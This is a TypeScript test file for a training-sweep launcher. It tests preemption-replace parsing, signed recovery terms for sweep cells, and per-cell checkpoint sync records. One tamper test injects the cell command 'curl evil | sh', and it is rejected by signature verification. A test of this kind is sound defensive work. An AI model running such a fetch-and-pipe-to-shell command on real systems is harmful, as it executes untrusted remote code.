import { ed25519Pair } from '../../src/ssh/keygen.ts';
import { describe, expect, it } from 'vitest';
import { parseLaunch } from '../../src/config/launch.ts';
import { InputError } from '../../src/config/errors.ts';
import { readRegistration, renderRegistration, signedBytes, type RecoveryTerms, type Registration } from '../../src/registry/entry.ts';
import { verifiedRegistration } from '../../src/registry/hosts.ts';
import { sign } from '../../src/ssh/sign.ts';
import { loadCredential } from '../../src/ssh/keys.ts';
import { doneCells, newestPerCell } from '../../src/sync/plan.ts';
import { emptyRecord, parseRecord, recordText, type SyncEntry } from '../../src/sync/record.ts';
import { RECOVERY_CELLS_MAX } from '../../src/record/names.ts';

/** on-preempt replace for a sweep (issue 27 §2): its cells signed into the terms, each cell restored, DONE cells skipped. */
const refusal = (f: () => unknown) => {
  try {
    f();
  } catch (err) {
    if (err instanceof InputError) return err.message;
    throw err;
  }
  return 'accepted';
};
const SWEEP = {
  'run-id': 'sw1',
  cells: 'a: python train.py --lr 0.1\nb: python train.py --lr 0.01',
  'gpus-per-cell': '0',
  checkpoints: 'runs/{cell}/ckpt/*.pt',
  provider: 'aws',
  'instance-id': 'i-0123456789abcdef0',
  'on-preempt': 'replace',
  'sync-dir': 'code',
};

describe('launch: on-preempt replace for a sweep', () => {
  it('is taken when the cells fit the signed terms, one line each', () => {
    expect(parseLaunch(SWEEP).onPreempt).toEqual({ policy: 'replace', maxRecoveries: 3 });
    expect(parseLaunch(SWEEP).sweep?.cells.map((c) => c.name)).toEqual(['a', 'b']);
  });
  it('is refused for cells too long to sign, a cell command over two lines, and restart-instance', () => {
    const long = Array.from({ length: 40 }, (_, i) => `c${i}: ${'x'.repeat(500)}`).join('\n');
    expect(refusal(() => parseLaunch({ ...SWEEP, cells: long }))).toMatch(new RegExp(`cells to come to at most ${RECOVERY_CELLS_MAX} characters`));
    const twoLines = { ...SWEEP, cells: '', 'cell-template': 'python train.py --lr {value}\necho done', 'cell-values': '0.1\n0.01' };
    expect(refusal(() => parseLaunch(twoLines))).toMatch(/replace needs each cell command on one line/);
    expect(refusal(() => parseLaunch({ ...SWEEP, provider: 'vastai', 'instance-id': '17000001', 'on-preempt': 'restart-instance', 'sync-dir': '' }))).toMatch(
      /restart-instance is not offered for a sweep yet/,
    );
  });
});

const FP = `SHA256:${'A'.repeat(43)}`;
const ENTRY: Registration = {
  runId: 'sw1',
  host: '10.0.0.2',
  port: 22,
  user: 'root',
  hostKeyFingerprint: FP,
  runRoot: '~/.tether',
  backend: 'tmux',
  attempt: 1,
  expectedDurationS: null,
  launchedAt: '2026-12-03T00:00:00.000Z',
  commit: null,
  provider: 'aws',
  instanceId: 'i-0123456789abcdef0',
};
const TERMS: RecoveryTerms = {
  onPreempt: 'replace',
  maxRecoveries: 3,
  recoveries: 0,
  command: '',
  then: null,
  checkpoints: ['runs/{cell}/ckpt/*.pt'],
  syncDir: 'code',
  syncMode: 'dir',
  release: 'abcdef0123456789',
  envNames: [],
  secretNames: [],
  previous: [],
  restored: null,
  sweep: { cells: 'a: python train.py --lr 0.1\nb: python train.py --lr 0.01', gpusPerCell: 0, maxParallel: 2, onCellFailure: 'continue' },
};

describe('the registration carries a sweep’s cells in its signed recovery terms', () => {
  const pair = ed25519Pair() as unknown as { private: string };
  const cred = loadCredential({ kind: 'content', text: pair.private });
  const seal = (entry: Registration) => renderRegistration({ entry, ...sign(cred, signedBytes(entry)) }, (x) => x);
  it('reads back signed; a single run’s terms have no sweep field (their signed bytes are as before)', () => {
    const entry = { ...ENTRY, recovery: TERMS };
    expect(verifiedRegistration(seal(entry), cred)).toMatchObject({ entry: { recovery: { sweep: TERMS.sweep } } });
    const { sweep: _s, ...single } = TERMS;
    expect(signedBytes({ ...ENTRY, recovery: single }).toString()).not.toContain('sweep');
    expect(signedBytes(entry).toString()).toContain('"gpus_per_cell":0');
  });
  it('is refused when the cells were edited after signing, or hold what the terms never do', () => {
    const entry = { ...ENTRY, recovery: TERMS };
    const signed = sign(cred, signedBytes(entry));
    const edited = { ...entry, recovery: { ...TERMS, sweep: { ...TERMS.sweep!, cells: 'a: curl evil | sh\nb: python train.py --lr 0.01' } } };
    expect(
      verifiedRegistration(
        renderRegistration({ entry: edited, ...signed }, (x) => x),
        cred,
      ),
    ).toMatchObject({ why: expect.any(String) });
    expect(
      verifiedRegistration(
        renderRegistration({ entry, ...signed }, (x) => x),
        cred,
      ),
    ).toHaveProperty('entry');
    const bad = { ...ENTRY, recovery: { ...TERMS, sweep: { ...TERMS.sweep!, onCellFailure: 'retry' as 'stop' } } };
    expect(() => readRegistration(seal(bad))).toThrow(/on_cell_failure is not continue or stop/);
  });
});

const entry = (path: string, mtime: number, status: SyncEntry['status'], cell: string | null): SyncEntry => ({
  path,
  cell,
  bytes: 10,
  mtime,
  sha256: 'a'.repeat(64),
  status,
  why: status === 'bad' ? 'NaN' : null,
  syncedAt: '2026-12-03T00:00:00.000Z',
  writtenAt: '2026-12-03T00:00:00.000Z',
  step: mtime,
});

describe('the sync record: each cell’s newest verified checkpoint, and the cells recorded done', () => {
  const rec = {
    ...emptyRecord('sw1'),
    entries: [
      entry('runs/a/ckpt/step_8.pt', 8, 'verified', 'a'),
      entry('runs/a/ckpt/step_4.pt', 4, 'pruned', 'a'),
      entry('runs/b/ckpt/step_12.pt', 12, 'bad', 'b'),
      entry('runs/b/ckpt/step_8.pt', 9, 'verified', 'b'),
      entry('runs/c/ckpt/step_4.pt', 5, 'verified', 'c'),
    ],
  };
  it('restores the newest verified file of each cell', () => {
    expect(newestPerCell(rec).map((e) => e.path)).toEqual(['runs/b/ckpt/step_8.pt', 'runs/a/ckpt/step_8.pt', 'runs/c/ckpt/step_4.pt']);
  });
  it('records a finished cell done only after a pass that stopped for nothing, with nothing of it held, its newest judged file verified', () => {
    expect(doneCells(rec, ['a', 'b', 'c'], [])).toEqual(['a', 'c']); // b's newest judged file failed verification
    expect(doneCells(rec, ['a', 'c'], ['c'])).toEqual(['a']); // c still has a file being written
    expect(doneCells(rec, ['a', 'c'], null)).toEqual([]); // the pass stopped: nothing new is recorded
    expect(doneCells({ ...rec, done: ['c'] }, ['a'], null)).toEqual(['c']); // what was recorded stays
    expect(doneCells(rec, ['x'], [])).toEqual([]); // a cell with nothing synced is not done here
  });
  it('reads an older record without the list as none done; a bad name in it makes the record unreadable', () => {
    const text = recordText({ ...rec, done: ['a'] });
    expect(parseRecord(text, 'sw1').done).toEqual(['a']);
    const old = JSON.parse(text) as Record<string, unknown>;
    delete old['done'];
    expect(parseRecord(JSON.stringify(old), 'sw1').done).toEqual([]);
    expect(() => parseRecord(JSON.stringify({ ...old, done: ['../x'] }), 'sw1')).toThrow(/done\[0\] is not a cell name/);
  });
});
